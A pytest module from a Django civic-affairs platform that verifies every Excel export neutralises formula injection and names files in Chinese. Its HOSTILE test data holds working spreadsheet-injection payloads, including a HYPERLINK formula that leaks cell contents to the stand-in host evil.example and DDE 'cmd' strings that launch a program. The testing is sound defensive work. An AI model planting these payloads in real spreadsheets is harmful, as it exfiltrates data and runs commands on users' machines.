"""No export hands Excel a formula: every .xlsx the platform produces neutralises text that starts like one.

A voter's anonymous opinion whose content starts with ``=HYPERLINK(…)``, turned
into a suggestion and exported with the ledger, arrived in Excel as a live
formula. Every export is found here (the admin's Excel exports by their URL
names, every other .xlsx by opening every page of the permission matrix as
staff) and run over records holding text that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return; no cell of the workbook may begin so (the
shared ``congress.spreadsheets`` puts a ``'`` before it), and numbers stay numbers.
"""

from __future__ import annotations

import io
import re
from urllib.parse import unquote

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from congress.spreadsheets import FORMULA_STARTS, SafeXLSX, neutralise
from suggestions.models import VoterOpinion
from suggestions.opinions import services as voter_opinions

from .test_permission_matrix import ADMIN_MODELS, ROWS, STAFF, SUPERUSER
from .test_permission_matrix import url_patterns as all_url_patterns

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def plant(world):
    """Text starting like a formula in the fields the exports read, of every record they export."""
    deputy = world["deputies.Deputy"]
    deputy.occupation, deputy.notes, deputy.ethnicity = HOSTILE["="], HOSTILE["+"], "@SUM(1+1)"
    deputy.save()
    reception = world["deputies.Reception"]
    reception.place, reception.notes = HOSTILE["-"], HOSTILE["\t"]
    reception.save()
    matter = world["deputies.ReceptionMatter"]
    matter.summary, matter.voter_name, matter.voter_contact = HOSTILE["="], HOSTILE["@"], HOSTILE["+"]
    matter.outcome_note = HOSTILE["\r"]
    matter.save()
    suggestion = world["suggestions.Suggestion"]
    suggestion.title, suggestion.content = HOSTILE["="], HOSTILE["+"]
    suggestion.save()
    reply = suggestion.current_round.reply
    reply.text = HOSTILE["-"]
    reply.save()
    world["deputies.Constituency"].name = HOSTILE["="][:40]
    world["deputies.Constituency"].save()
    # The finding's path: an anonymous opinion turned into a suggestion.
    opinion = voter_opinions.voter_opinion_submit(VoterOpinion(content=HOSTILE["="], source="public_form"))
    voter_opinions.voter_opinion_convert(opinion, actor=world.users[STAFF])


def extend_world(w):
    plant(w)


def cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(content: bytes, where: str):
    values = [cell for cell in cells(content)]
    assert values, f"{where}: an empty workbook"
    formulas = [c.coordinate for c in values if c.data_type == "f"]
    assert not formulas, f"{where}: formulas in {formulas}"
    dangerous = [
        (c.coordinate, c.value)
        for c in values
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    ]
    assert not dangerous, f"{where}: cells starting like a formula: {dangerous}"
    return values


# ---- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", list(HOSTILE))
def test_text_starting_like_a_formula_gets_a_quote(start):
    assert neutralise(HOSTILE[start]) == "'" + HOSTILE[start]


@pytest.mark.parametrize("value", ["乌审召镇", "2022-001", "A类", "", " =1", 12, -3, 1.5, None, True])
def test_everything_else_stays_as_it_is(value):
    assert neutralise(value) == value


# ---- every export, discovered ------------------------------------------------------------------------


def exporting_admins():
    return sorted(
        (model._meta.label, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin) and model._meta.label in ADMIN_MODELS
    )


def test_every_admin_export_uses_the_safe_format():
    for label, model_admin in exporting_admins():
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeXLSX) for f in formats), f"{label} exports {formats}"


def export_names():
    """Every URL name of an admin export page (a new exporting admin adds one)."""
    return sorted(
        key for key, _route in all_url_patterns() if key.startswith("admin:") and key.endswith("_export")
    )


def test_the_exports_found_are_the_exporting_admins():
    meta = [model_admin.model._meta for _label, model_admin in exporting_admins()]
    assert export_names() == sorted(f"admin:{m.app_label}_{m.model_name}_export" for m in meta)


@pytest.mark.parametrize("name", export_names())
def test_every_admin_export_neutralises_formulas(client, world, name):
    client.force_login(world.users[SUPERUSER])
    page = client.get(reverse(name))
    form = page.context["form"]
    data = {"format": "0", "resource": "0"}
    for field_name, field in form.fields.items():
        if field_name not in data and field.widget.input_type == "checkbox":
            data[field_name] = "on"  # every column
    response = client.post(reverse(name), data)
    assert response.status_code == 200 and response["Content-Type"].startswith(XLSX), response.status_code
    values = assert_no_formula(response.content, name)
    neutralised = [
        c.value for c in values if isinstance(c.value, str) and c.value[1:].startswith(FORMULA_STARTS)
    ]
    assert neutralised, f"{name}: none of the planted text was exported"


def xlsx_pages(world):
    """Every page of the permission matrix that answers staff with an .xlsx (hand-written exports)."""
    return [row for row in ROWS if row.method == "get" and row.expect[STAFF] == 200]


def test_every_other_xlsx_of_the_platform_neutralises_formulas(client, world):
    client.force_login(world.users[STAFF])
    found = []
    for row in xlsx_pages(world):
        response = client.get(row.url(world))
        if response.get("Content-Type", "").startswith(XLSX):
            found.append(row.name)
            assert_no_formula(response.content, row.name)
    assert "deputies:records_export" in found


def test_numbers_stay_numbers_in_the_duty_records(client, world):
    client.force_login(world.users[STAFF])
    response = client.get(reverse("deputies:records_export", args=[2022]))
    values = assert_no_formula(response.content, "duty records")
    assert any(isinstance(c.value, int | float) and not isinstance(c.value, bool) for c in values)


# ---- named in the reader's language ----------------------------------------------------------------

LATIN = re.compile(r"[A-Za-z]")


def downloaded_name(response) -> str:
    """The file name a browser saves: RFC 5987 ``filename*`` when given."""
    disposition = response["Content-Disposition"]
    match = re.search(r"filename\*=utf-8''([^;]+)", disposition)
    return unquote(match[1]) if match else re.search(r'filename="([^"]+)"', disposition)[1]


@pytest.mark.parametrize("name", export_names())
def test_every_admin_export_is_named_in_chinese_file_sheet_and_columns(client, world, name):
    client.force_login(world.users[SUPERUSER])
    page = client.get(reverse(name))
    form = page.context["form"]
    labels = [str(field.label) for field in form.fields.values() if field.widget.input_type == "checkbox"]
    assert not [label for label in labels if LATIN.search(label)], f"{name}: columns {labels}"
    boxes = [key for key, field in form.fields.items() if field.widget.input_type == "checkbox"]
    data = {"format": "0", "resource": "0", **dict.fromkeys(boxes, "on")}
    response = client.post(reverse(name), data)
    filename = downloaded_name(response)
    assert re.fullmatch(r"[^A-Za-z]+-\d{4}-\d{2}-\d{2}\.xlsx", filename), filename
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [filename.rsplit("-", 3)[0]]


def test_the_ledger_is_named_as_the_office_calls_it(client, world):
    client.force_login(world.users[STAFF])
    data = {"format": "0", "resource": "0", "ledgerresource_number": "on"}
    response = client.post(reverse("admin:suggestions_suggestion_export"), data)
    assert downloaded_name(response).startswith("建议台账-")


def test_the_duty_records_are_named_in_the_reader_s_language(client, world):
    client.force_login(world.users[STAFF])
    assert (
        downloaded_name(client.get(reverse("deputies:records_export", args=[2022])))
        == "2022年代表履职档案.xlsx"
    )
    client.cookies["django_language"] = "en"
    assert (
        downloaded_name(client.get(reverse("deputies:records_export", args=[2022])))
        == "duty records 2022.xlsx"
    )
